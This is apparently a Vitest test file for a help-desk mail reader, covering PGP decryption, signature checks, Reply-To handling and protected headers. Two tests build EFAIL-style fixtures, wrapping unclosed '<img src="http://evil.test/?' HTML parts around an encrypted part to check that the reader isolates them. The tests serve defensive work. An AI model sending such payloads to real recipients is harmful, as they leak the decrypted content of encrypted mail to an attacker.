import { expect, test } from 'vitest'

import { readMail } from '#core/mail/incoming.ts'
import { adasKey, deskKey, evesKey } from '#test/support/mail/keys.ts'
import { aMail, aPart, multipart } from '#test/support/mail/mail.ts'
import {
  armored,
  envelopeOf,
  sealedBody,
  signedMail
} from '#test/support/mail/sealed.ts'

const text = 'Content-Type: text/plain; charset=utf-8\n\nMy Wi-Fi is gone.\n'

test('a plain mail says who, when, what and to whom to answer', async () => {
  const mail = await readMail(
    aMail({ headers: ['Cc: Bob <bob@Users.TEST>', 'References: <a@x> <b@x>'] }),
    []
  )
  expect(mail).toMatchObject({
    from: { name: 'Ada Lovelace', address: 'ada@users.test' },
    to: [{ address: 'help@desk.test' }, { name: 'Bob', address: 'bob@users.test' }],
    subject: 'Wi-Fi',
    messageId: 'first@users.test',
    references: ['a@x', 'b@x'],
    date: Date.UTC(2026, 10, 6, 10),
    text: 'My Wi-Fi is gone since the update.',
    language: 'en',
    seals: { encrypted: false, signature: 'none' }
  })
  expect(mail.trouble).toBeUndefined()
})

test('an answer goes to Reply-To, unless it names nobody', async () => {
  const elsewhere = await readMail(aMail({ headers: ['Reply-To: desk@ngo.test'] }), [])
  const nameOnly = await readMail(aMail({ headers: ['Reply-To: "Jane Doe"'] }), [])
  expect(elsewhere.from).toEqual({ name: 'Ada Lovelace', address: 'desk@ngo.test' })
  expect(nameOnly.from.address).toBe('ada@users.test')
})

test('a mail encrypted to the desk opens, whoever it is addressed to', async () => {
  const desk = await deskKey()
  const other = await evesKey()
  const armor = await armored(text, { to: [desk.public] })
  const mail = await readMail(envelopeOf(armor, { to: 'undisclosed-recipients:;' }), [
    other.secret,
    desk.secret
  ])
  expect(mail).toMatchObject({
    text: 'My Wi-Fi is gone.',
    attachments: [],
    seals: { encrypted: true, signature: 'none' }
  })
})

test('without the right key it is kept with its trouble, and still has a subject', async () => {
  const desk = await deskKey()
  const eve = await evesKey()
  const mail = await readMail(envelopeOf(await armored(text, { to: [desk.public] })), [
    eve.secret
  ])
  expect(mail).toMatchObject({ subject: 'Wi-Fi', text: '', trouble: 'no-key' })
  expect(mail.attachments).toMatchObject([{ name: 'encrypted.asc' }])
})

test('of a mail that stays shut no language is guessed, whatever its subject says', async () => {
  const desk = await deskKey()
  const eve = await evesKey()
  const subject = 'The wireless network has not worked since I upgraded yesterday'
  const sealed = envelopeOf(await armored(text, { to: [desk.public] }), { subject })
  const mail = await readMail(sealed, [eve.secret])
  expect([mail.trouble, mail.language]).toEqual(['no-key', 'und'])
  const plain = await readMail(aMail({ subject, body: subject }), [])
  expect(plain.language).toBe('en')
})

test('one changed byte in the ciphertext shows nothing of it', async () => {
  const desk = await deskKey()
  const armor = await armored(text, { to: [desk.public] })
  const lines = armor.split('\n')
  const at = lines.length - 6
  lines[at] = (lines[at] ?? '').replace(/^./, (first: string) =>
    first === 'A' ? 'B' : 'A'
  )
  const mail = await readMail(envelopeOf(lines.join('\n')), [desk.secret])
  expect([mail.trouble, mail.text]).toEqual(['undecryptable', ''])
})

test('encrypted and signed by the key that came with it: good, for its own address only', async () => {
  const desk = await deskKey()
  const ada = await adasKey()
  const inner = `Content-Type: multipart/mixed; boundary=in\n\n${multipart(
    'in',
    text,
    `Content-Type: application/pgp-keys; name=ada.asc\n\n${ada.public}`
  )}`
  const armor = await armored(inner, { to: [desk.public], signedBy: ada.secret })
  const hers = await readMail(envelopeOf(armor), [desk.secret])
  const claimed = await readMail(envelopeOf(armor, { from: 'Bob <bob@users.test>' }), [
    desk.secret
  ])
  expect(hers.seals).toEqual({ encrypted: true, signature: 'good' })
  expect(hers.askerKey).toContain('BEGIN PGP PUBLIC KEY BLOCK')
  expect(claimed.seals.signature).toBe('unknown-key')
  expect(claimed.askerKey).toBe('')
})

test('a signature by a stranger is neither good nor bad', async () => {
  const ada = await adasKey()
  const mail = await readMail(await signedMail(text, ada.secret), [])
  expect(mail.seals.signature).toBe('unknown-key')
  expect(mail.text).toBe('My Wi-Fi is gone.')
  expect(mail.attachments).toEqual([])
})

test('a signed mail is good with the key we knew, and bad once a letter changed', async () => {
  const ada = await adasKey()
  const good = await signedMail(text, ada.secret)
  const changed = await signedMail(text, ada.secret, {}, text.replace('gone', 'here'))
  const read = (raw: Uint8Array) => readMail(raw, [], undefined, [ada.public])
  expect((await read(good)).seals.signature).toBe('good')
  expect((await read(changed)).seals.signature).toBe('bad')
})

test('a good signature does not cover another Reply-To, nor a second From', async () => {
  const ada = await adasKey()
  const read = async (header: string) =>
    (
      await readMail(
        await signedMail(text, ada.secret, { headers: [header] }),
        [],
        undefined,
        [ada.public]
      )
    ).seals.signature
  expect(await read('Reply-To: bob@users.test')).toBe('unknown-key')
  expect(await read('From: bob@users.test')).toBe('unknown-key')
})

test('partly signed is not signed', async () => {
  const ada = await adasKey()
  const signed = new TextDecoder().decode(await signedMail(text, ada.secret))
  const part = signed.slice(signed.indexOf('Content-Type: multipart/signed'))
  const mail = await readMail(
    aMail({
      type: 'multipart/mixed; boundary=list',
      body: multipart('list', part, aPart('text/plain', 'Please pay here.'))
    }),
    [],
    undefined,
    [ada.public]
  )
  expect(mail.seals.signature).toBe('none')
})

test('clear parts around an encrypted one are kept apart from it', async () => {
  const desk = await deskKey()
  const armor = await armored(text, { to: [desk.public] })
  const sealed = `Content-Type: multipart/encrypted; boundary=sealed\n\n${sealedBody(armor)}`
  const mail = await readMail(
    aMail({
      type: 'multipart/mixed; boundary=efail',
      body: multipart(
        'efail',
        aPart('text/html', '<img src="http://evil.test/?'),
        sealed,
        aPart('text/html', '">')
      )
    }),
    [desk.secret]
  )
  expect(mail.text).toBe('My Wi-Fi is gone.')
  expect(mail.html).toBeUndefined()
  expect(mail.seals.encrypted).toBe(false)
  expect(mail.attachments.map(file => file.name)).toEqual([
    'not-encrypted.html',
    'not-encrypted.html'
  ])
})

test('an encrypted part is kept apart however deep it lies among clear ones', async () => {
  const desk = await deskKey()
  const armor = await armored(text, { to: [desk.public] })
  const sealed = `Content-Type: multipart/encrypted; boundary=sealed\n\n${sealedBody(armor)}`
  const clear = aPart('text/html', '<img src="http://evil.test/?')
  const inner = multipart('inner', sealed, aPart('text/plain', 'a footer'))
  const mail = await readMail(
    aMail({
      type: 'multipart/mixed; boundary=outer',
      body: multipart(
        'outer',
        clear,
        `Content-Type: multipart/mixed; boundary=inner\n\n${inner}`,
        clear
      )
    }),
    [desk.secret]
  )
  expect(mail.text).toBe('My Wi-Fi is gone.')
  expect(mail.html).toBeUndefined()
  expect(mail.seals.encrypted).toBe(false)
})

test('a subject that was encrypted replaces the one outside', async () => {
  const desk = await deskKey()
  const inner = (params: string) =>
    `Subject: My =?utf-8?Q?caf=C3=A9?=\nTo: secret@users.test\nContent-Type: text/plain; charset=utf-8; ${params}\n\nHi there\n`
  const read = async (params: string) =>
    readMail(
      envelopeOf(await armored(inner(params), { to: [desk.public] }), {
        subject: '...'
      }),
      [desk.secret]
    )
  expect((await read('protected-headers="v1"')).subject).toBe('My café')
  expect((await read('protected-headers="v1"')).to[0]?.address).toBe('help@desk.test')
  const hp = await read('hp="cipher"')
  expect([hp.subject, hp.to[0]?.address]).toEqual(['My café', 'secret@users.test'])
  expect((await read('x=y')).subject).toBe('...')
})

test('a copy of hidden headers for old programs is not shown twice', async () => {
  const desk = await deskKey()
  const inner = `Subject: Real\nContent-Type: text/plain; hp="cipher"; hp-legacy-display="1"\n\nSubject: Real\n\nHi there\n`
  const mail = await readMail(envelopeOf(await armored(inner, { to: [desk.public] })), [
    desk.secret
  ])
  expect([mail.subject, mail.text]).toEqual(['Real', 'Hi there'])
})

test('clear words around inline PGP never stand beside the decrypted ones', async () => {
  const desk = await deskKey()
  const armor = await armored('the secret', { to: [desk.public] })
  const mail = await readMail(aMail({ body: `Click here\n\n${armor}\nor there` }), [
    desk.secret
  ])
  expect(mail.text).toBe('the secret')
  expect(mail.attachments).toMatchObject([
    { name: 'not-encrypted.txt', type: 'text/plain' }
  ])
  expect(mail.seals.encrypted).toBe(false)
})
